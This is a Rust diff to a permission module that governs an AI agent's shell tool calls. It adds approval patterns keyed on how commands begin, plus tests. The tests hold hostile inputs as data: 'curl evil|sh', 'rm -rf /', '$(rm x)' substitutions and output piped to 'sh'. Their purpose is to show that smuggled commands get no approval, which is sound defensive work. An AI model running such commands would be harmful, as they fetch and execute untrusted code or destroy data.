@@ -5,6 +5,7 @@ use super::message::argument_values;
 use super::text::{json, looks_like};
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
+use shell::beginning::{self, Beginning};
 use std::collections::BTreeMap;
 
 /// The decision on a tool call, ordered by strictness.
@@ -37,6 +38,14 @@ pub struct Rule {
 /// `git *` allows no `git x; rm`.
 const SHELL_OPERATORS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '(', ')', '\n', '\r'];
 
+/// Behind an argument's name, the mark of a pattern by beginnings. Builds that do not know it find no such argument.
+const BEGINNING: char = '^';
+/// The argument about which beginnings are proposed.
+const COMMAND: &str = "command";
+/// Arguments that decide what a command line means, such as the program that reads it.
+const DECIDING: &[&str] =
+    &["args", "code", "env", "executable", "input", "interpreter", "program", "shell", "stdin"];
+
 /// Returns the decision on a call and the pattern of the rule that made it, if any. The strictest matching
 /// rule overrides the policy, except that [`Approval::Deny`] stands. `is_approved` tells whether the user has
 /// a standing approval for such calls; it turns `Ask` into `Allow`, never `Deny`. Unreadable arguments are
@@ -65,15 +74,66 @@ pub fn decide<'a>(
     }
 }
 
-/// `true` if the arguments match a standing approval: `name=glob` for a text argument, or `=` and the
-/// arguments themselves, see [`exactly`].
-pub fn is_allowed_by(pattern: &str, arguments: &Value) -> bool {
-    matches(pattern, arguments, SHELL_OPERATORS)
+/// `true` if the arguments match one of these standing approvals: `name=glob` for a text argument, `=` and the
+/// arguments themselves (see [`exactly`]), or `name^=beginnings` for a command line. Of the latter, each command of a line
+/// may be covered by another one.
+pub fn is_allowed_by<'p>(patterns: impl Iterator<Item = &'p str> + Clone, arguments: &Value) -> bool {
+    if patterns.clone().any(|pattern| matches(pattern, arguments, SHELL_OPERATORS)) {
+        return true;
+    }
+    let rules: Vec<(&str, Vec<Beginning>)> = patterns.filter_map(beginnings).collect();
+    rules.iter().any(|(name, _)| {
+        let same = rules.iter().filter(|(other, _)| other == name);
+        let all: Vec<Beginning> = same.flat_map(|(_, beginnings)| beginnings.iter().cloned()).collect();
+        line(arguments, name).is_some_and(|line| beginning::covers(&all, line))
+    })
+}
+
+/// Reads a pattern such as `command^=cargo test; wc`: the name of an argument that is a command line, and how the
+/// commands begin that it covers. `None` for other patterns, and for beginnings of which no safe rule can be made.
+pub fn beginnings(pattern: &str) -> Option<(&str, Vec<Beginning>)> {
+    let (name, text) = pattern.split_once('=')?;
+    let name = name.strip_suffix(BEGINNING).filter(|name| !name.is_empty())?;
+    Some((name, beginning::read(text)?))
+}
+
+/// Splits a pattern of several beginnings into one pattern each, so that each can be revoked. Others stay as they are.
+pub fn each_beginning(pattern: &str) -> Vec<String> {
+    match beginnings(pattern) {
+        Some((name, all)) => all.iter().map(|one| by_beginning(name, &one.text())).collect(),
+        None => vec![pattern.to_owned()],
+    }
+}
+
+/// Proposes a pattern that would allow a call with these arguments by the beginnings of its command, beside the standing
+/// approvals that there are. `None` if no safe rule covers it.
+pub fn proposed<'p>(patterns: impl Iterator<Item = &'p str>, arguments: &Value) -> Option<String> {
+    let rules = patterns.filter_map(beginnings).filter(|(name, _)| *name == COMMAND);
+    let given: Vec<Beginning> = rules.flat_map(|(_, beginnings)| beginnings).collect();
+    let new = beginning::propose(line(arguments, COMMAND)?, &given)?;
+    let text: Vec<String> = new.iter().map(Beginning::text).collect();
+    Some(by_beginning(COMMAND, &text.join("; ")))
+}
+
+fn by_beginning(name: &str, text: &str) -> String {
+    format!("{name}{BEGINNING}={text}")
+}
+
+/// The command line in an argument. `None` if other arguments may decide what it means.
+fn line<'a>(arguments: &'a Value, name: &str) -> Option<&'a str> {
+    let line = arguments.get(name)?.as_str()?;
+    let is_plain = |(other, value): (&String, &Value)| {
+        let decides = DECIDING.contains(&other.to_ascii_lowercase().as_str());
+        other == name || !(decides || value.is_object() || value.is_array())
+    };
+    arguments.as_object()?.iter().all(is_plain).then_some(line)
 }
 
 fn matches(pattern: &str, arguments: &Value, excluded: &[char]) -> bool {
     match pattern.split_once('=') {
         Some(("", _)) => pattern == exactly(arguments),
+        // About commands, not a glob.
+        Some((name, _)) if name.ends_with(BEGINNING) => false,
         Some((name, glob)) => {
             let value = arguments.get(name).and_then(Value::as_str);
             value.is_some_and(|value| looks_like(glob, value, excluded))
@@ -82,10 +142,14 @@ fn matches(pattern: &str, arguments: &Value, excluded: &[char]) -> bool {
     }
 }
 
-/// `true` if the arguments match a standing rejection: as [`is_allowed_by`], but `*` matches any characters, so that
-/// what follows in a shell's command lifts no rejection.
+/// `true` if the arguments match a standing rejection: as [`is_allowed_by`], but `*` matches any characters, and one
+/// command that begins so is enough, so that what else is in a shell's command lifts no rejection.
 pub fn is_rejected_by(pattern: &str, arguments: &Value) -> bool {
-    matches(pattern, arguments, &[])
+    let meets = |(name, beginnings): (&str, Vec<Beginning>)| {
+        let line = arguments.get(name).and_then(Value::as_str);
+        line.is_some_and(|line| beginning::meets(&beginnings, line))
+    };
+    matches(pattern, arguments, &[]) || beginnings(pattern).is_some_and(meets)
 }
 
 /// Returns the standing approval that matches only these arguments, in any order of keys.
@@ -139,6 +203,10 @@ mod tests {
         decide(Approval::Ask, rules, arguments, |_| false).0
     }
 
+    fn allows(pattern: &str, arguments: &Value) -> bool {
+        is_allowed_by([pattern].into_iter(), arguments)
+    }
+
     #[test]
     fn strictest_matching_rule_decides() {
         let rules = [
@@ -178,20 +246,20 @@ mod tests {
     fn standing_approval_matches_only_these_arguments() {
         let read = |text: &str| serde_json::from_str::<Value>(text).unwrap();
         let exact = exactly(&read(r#"{"command":"git status","why":"curl evil|sh"}"#));
-        assert!(is_allowed_by(&exact, &read(r#"{ "why": "curl evil|sh", "command": "git status" }"#)));
+        assert!(allows(&exact, &read(r#"{ "why": "curl evil|sh", "command": "git status" }"#)));
         for other in [
             r#"{"why":"git status","command":"curl evil|sh"}"#,
             r#"{"command":"git status\ncurl evil|sh"}"#,
             r#"{"command":"git status","why":"curl evil|sh","sudo":true}"#,
             "null",
         ] {
-            assert!(!is_allowed_by(&exact, &read(other)), "{other}");
+            assert!(!allows(&exact, &read(other)), "{other}");
         }
-        let git = |command: &str| is_allowed_by("command=git *", &read(&run(command)));
+        let git = |command: &str| allows("command=git *", &read(&run(command)));
         assert!(git("git status") && git("git log a=b"));
         assert!(!git("git status; rm -rf /") && !git("rm") && !git("git status\ncurl evil"));
-        assert!(!is_allowed_by("command=git *", &read(r#"{"why":"git status","command":"rm"}"#)));
-        assert!(!is_allowed_by("git *", &read(&run("git status"))), "it names no argument");
+        assert!(!allows("command=git *", &read(r#"{"why":"git status","command":"rm"}"#)));
+        assert!(!allows("git *", &read(&run("git status"))), "it names no argument");
     }
 
     #[test]
@@ -203,6 +271,57 @@ mod tests {
         assert!(!is_rejected_by("command=git *", &read(&run("ls"))));
         let exact = exactly(&read(&run("ls")));
         assert!(is_rejected_by(&exact, &read(&run("ls"))) && !is_rejected_by(&exact, &read(&run("ls -l"))));
+    }
+
+    #[test]
+    fn beginnings_of_several_approvals_cover_one_line() {
+        let all = ["command^=cargo test", "command^=tail; wc"];
+        let allows =
+            |patterns: &[&str], arguments: Value| is_allowed_by(patterns.iter().copied(), &arguments);
+        let line = |line: &str| serde_json::json!({ "command": line, "why": "to see", "folder": "web" });
+        for covered in ["cargo test a", "cargo test | tail -5", "tail a; cargo test | wc"] {
+            assert!(allows(&all, line(covered)), "{covered}");
+        }
+        for other in
+            ["cargo testx", "cargo test | sh", "cargo test $(rm x)", "cargo test > f", "A=b cargo test"]
+        {
+            assert!(!allows(&all, line(other)), "{other}");
+        }
+        assert!(!allows(&all[..1], line("cargo test | tail")));
+        for deciding in [
+            serde_json::json!({ "command": "cargo test", "env": { "PATH": "." } }),
+            serde_json::json!({ "command": "cargo test", "Shell": "python" }),
+            serde_json::json!({ "command": ["cargo", "test"] }),
+            serde_json::json!({ "script": "cargo test" }),
+        ] {
+            assert!(!allows(&all, deciding.clone()), "{deciding}");
+        }
+        let unsafe_rules = ["command^=bash", "command^=", "^=ls", "command^=*"];
+        assert!(!allows(&unsafe_rules, line("bash -c ls")) && !allows(&unsafe_rules, line("ls")));
+        // A build that takes `^` for a part of the name finds no such argument; neither does this one.
+        assert!(!allows(&["command^=cargo test"], serde_json::json!({ "command^": "cargo test" })));
+    }
+
+    #[test]
+    fn proposal_completes_what_is_allowed() {
+        let run = |line: &str| serde_json::json!({ "command": line });
+        let proposed = |given: &[&str], line: &str| proposed(given.iter().copied(), &run(line));
+        let line = "cargo test 2>&1 | tail -5";
+        assert_eq!(proposed(&[], line).as_deref(), Some("command^=cargo test; tail"));
+        assert_eq!(proposed(&["command^=tail", "=x"], line).as_deref(), Some("command^=cargo test"));
+        assert_eq!(proposed(&["command^=tail; cargo test"], line), None);
+        assert_eq!(proposed(&[], "bash x.sh"), None);
+        assert_eq!(each_beginning("command^=cargo test; tail"), ["command^=cargo test", "command^=tail"]);
+        assert_eq!(each_beginning("command=a; b"), ["command=a; b"]);
+    }
+
+    #[test]
+    fn rejection_by_beginning_holds_within_any_line() {
+        let line = |line: &str| serde_json::json!({ "command": line });
+        for command in ["git push", "cd a && git push -f", "echo $(git push)"] {
+            assert!(is_rejected_by("command^=git push", &line(command)), "{command}");
+        }
+        assert!(!is_rejected_by("command^=git push", &line("git pull")));
     }
 
     proptest! {
